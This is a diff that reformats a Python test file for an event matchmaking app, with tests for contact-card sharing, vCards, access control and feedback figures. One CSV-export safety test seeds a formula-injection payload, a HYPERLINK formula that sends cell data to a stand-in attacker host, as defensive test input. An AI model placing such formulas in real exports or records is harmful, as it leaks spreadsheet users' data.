@@ -22,28 +22,51 @@ def _past_event(session: Session) -> Event:
     return event
 
 
-def _met(session: Session, event: Event, a: Attendee, b: Attendee, *, a_wants: bool, b_wants: bool,
-         slot: int = 0) -> Meeting:
-    meeting = Meeting.between(a.id, b.id, event_id=event.id, slot_id=event.slots[slot].id,
-                              table_id=event.tables[0].id, source=MeetingSource.AUTO)
+def _met(
+    session: Session, event: Event, a: Attendee, b: Attendee, *, a_wants: bool, b_wants: bool, slot: int = 0
+) -> Meeting:
+    meeting = Meeting.between(
+        a.id,
+        b.id,
+        event_id=event.id,
+        slot_id=event.slots[slot].id,
+        table_id=event.tables[0].id,
+        source=MeetingSource.AUTO,
+    )
     session.add(meeting)
     session.flush()
-    session.add_all([
-        MeetingFeedback(meeting_id=meeting.id, attendee_id=a.id, took_place=True, rating=4,
-                        wants_follow_up=a_wants),
-        MeetingFeedback(meeting_id=meeting.id, attendee_id=b.id, took_place=True, rating=5,
-                        wants_follow_up=b_wants),
-    ])
+    session.add_all(
+        [
+            MeetingFeedback(
+                meeting_id=meeting.id, attendee_id=a.id, took_place=True, rating=4, wants_follow_up=a_wants
+            ),
+            MeetingFeedback(
+                meeting_id=meeting.id, attendee_id=b.id, took_place=True, rating=5, wants_follow_up=b_wants
+            ),
+        ]
+    )
     session.flush()
     return meeting
 
 
 def test_both_asking_to_follow_up_shows_each_the_others_card(app: Flask, db_session: Session) -> None:
     event = _past_event(db_session)
-    anna, anna_page = attendee_with_link(db_session, event, name="Anna Kowalska", company="EcoCup",
-                                         job_title="Head of sales", email="anna@ecocup.test")
-    boris, boris_page = attendee_with_link(db_session, event, name="Boris Petrov", company="Roastery",
-                                           job_title="Buyer", email="boris@roastery.test")
+    anna, anna_page = attendee_with_link(
+        db_session,
+        event,
+        name="Anna Kowalska",
+        company="EcoCup",
+        job_title="Head of sales",
+        email="anna@ecocup.test",
+    )
+    boris, boris_page = attendee_with_link(
+        db_session,
+        event,
+        name="Boris Petrov",
+        company="Roastery",
+        job_title="Buyer",
+        email="boris@roastery.test",
+    )
     _met(db_session, event, anna, boris, a_wants=True, b_wants=True)
     db_session.commit()
     client = csrf_client(app)
@@ -76,12 +99,18 @@ def test_one_side_asking_alone_shares_nothing(app: Flask, db_session: Session) -
 
 
 def test_contact_cards_parse_as_vcards_with_name_company_title_and_email(
-        app: Flask, db_session: Session) -> None:
+    app: Flask, db_session: Session
+) -> None:
     event = _past_event(db_session)
     anna, anna_page = attendee_with_link(db_session, event, name="Anna")
-    boris, _ = attendee_with_link(db_session, event, name="Борис Петров; «Кофе»",
-                                  company="Roastery, Sp. z o.o.", job_title="Head of purchasing",
-                                  email="boris@roastery.test")
+    boris, _ = attendee_with_link(
+        db_session,
+        event,
+        name="Борис Петров; «Кофе»",
+        company="Roastery, Sp. z o.o.",
+        job_title="Head of purchasing",
+        email="boris@roastery.test",
+    )
     carla, _ = attendee_with_link(db_session, event, name="Carla", company="", job_title="", email=None)
     _met(db_session, event, anna, boris, a_wants=True, b_wants=True, slot=0)
     _met(db_session, event, anna, carla, a_wants=True, b_wants=True, slot=1)
@@ -114,8 +143,14 @@ def test_contact_cards_parse_as_vcards_with_name_company_title_and_email(
 def test_csv_export_is_safe_to_open_in_a_spreadsheet(app: Flask, db_session: Session) -> None:
     event = _past_event(db_session)
     anna, anna_page = attendee_with_link(db_session, event, name="Anna")
-    mallory, _ = attendee_with_link(db_session, event, name='=HYPERLINK("http://evil.test?"&A1,"x")',
-                                    company="+48 22 123", job_title="@SUM(1+1)", email="m@evil.test")
+    mallory, _ = attendee_with_link(
+        db_session,
+        event,
+        name='=HYPERLINK("http://evil.test?"&A1,"x")',
+        company="+48 22 123",
+        job_title="@SUM(1+1)",
+        email="m@evil.test",
+    )
     _met(db_session, event, anna, mallory, a_wants=True, b_wants=True)
     db_session.commit()
 
@@ -134,7 +169,8 @@ def test_csv_export_is_safe_to_open_in_a_spreadsheet(app: Flask, db_session: Ses
 
 
 def test_connections_of_another_attendee_cannot_be_read_through_ones_own_link(
-        app: Flask, db_session: Session) -> None:
+    app: Flask, db_session: Session
+) -> None:
     event = _past_event(db_session)
     _anna, anna_page = attendee_with_link(db_session, event, name="Anna")
     boris, _ = attendee_with_link(db_session, event, name="Boris")
@@ -156,7 +192,8 @@ def test_connections_page_needs_a_working_link(app: Flask, db_session: Session) 
 
 
 def test_feedback_figures_show_the_organiser_answers_ratings_and_connections(
-        app: Flask, db_session: Session) -> None:
+    app: Flask, db_session: Session
+) -> None:
     from matchmaker.services.feedback_figures import feedback_figures
 
     event = _past_event(db_session)
@@ -164,12 +201,19 @@ def test_feedback_figures_show_the_organiser_answers_ratings_and_connections(
     boris, _ = attendee_with_link(db_session, event, name="Boris")
     carla, _ = attendee_with_link(db_session, event, name="Carla")
     _met(db_session, event, anna, boris, a_wants=True, b_wants=True, slot=0)
-    lonely = Meeting.between(anna.id, carla.id, event_id=event.id, slot_id=event.slots[1].id,
-                             table_id=event.tables[0].id, source=MeetingSource.AUTO)
+    lonely = Meeting.between(
+        anna.id,
+        carla.id,
+        event_id=event.id,
+        slot_id=event.slots[1].id,
+        table_id=event.tables[0].id,
+        source=MeetingSource.AUTO,
+    )
     db_session.add(lonely)
     db_session.flush()
-    db_session.add(MeetingFeedback(meeting_id=lonely.id, attendee_id=carla.id, took_place=False,
-                                   wants_follow_up=True))
+    db_session.add(
+        MeetingFeedback(meeting_id=lonely.id, attendee_id=carla.id, took_place=False, wants_follow_up=True)
+    )
     db_session.commit()
 
     figures = feedback_figures(db_session, event, now=datetime(2021, 1, 1, tzinfo=UTC))
